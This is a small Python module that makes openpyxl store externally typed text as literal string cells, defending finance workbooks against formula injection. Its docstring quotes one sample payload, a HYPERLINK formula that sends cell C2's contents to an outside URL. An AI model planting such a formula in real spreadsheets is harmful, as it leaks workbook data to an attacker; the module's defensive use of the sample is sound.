"""Spreadsheet cells for text that someone outside typed (a customer's name, a funder typed by staff, a remark).

openpyxl stores a ``str`` that starts with ``=`` as a formula and one such as ``#REF!`` as an error, so a
customer who calls themselves ``=HYPERLINK("http://…?x="&C2,"查看")`` would put a live formula into finance's
workbook. Here such a value becomes an explicit string cell (``t="inlineStr"``): Excel, WPS and LibreOffice
show a string cell as the text itself and never evaluate it, so the text stays exactly as typed (finance can
still search for and match the name). We do not add OWASP's leading ``'`` for ``= + - @ \\t \\r``: in an .xlsx
string cell it is not an escape but a visible character that would change names, amounts written as ``-2万``
and phone numbers written as ``+86…``, and the .xlsx writers here never produce a file that is re-parsed as
CSV. A CSV writer would need that prefix as well, since a CSV cell has no type to keep it text.
"""

from __future__ import annotations

from typing import Any, Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES

_ERROR_CODES = frozenset(ERROR_CODES)


def text_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` for ``ws.append``, every string that openpyxl would read as a formula or an error code turned
    into a string cell; other values pass through unchanged, so the common row costs one check per string."""
    return [text_cell(ws, v) if isinstance(v, str) and (v[:1] == "=" or v in _ERROR_CODES) else v for v in values]


def text_cell(ws: Any, value: str) -> Any:
    """``value`` as a cell of type string, whatever it starts with."""
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    return cell
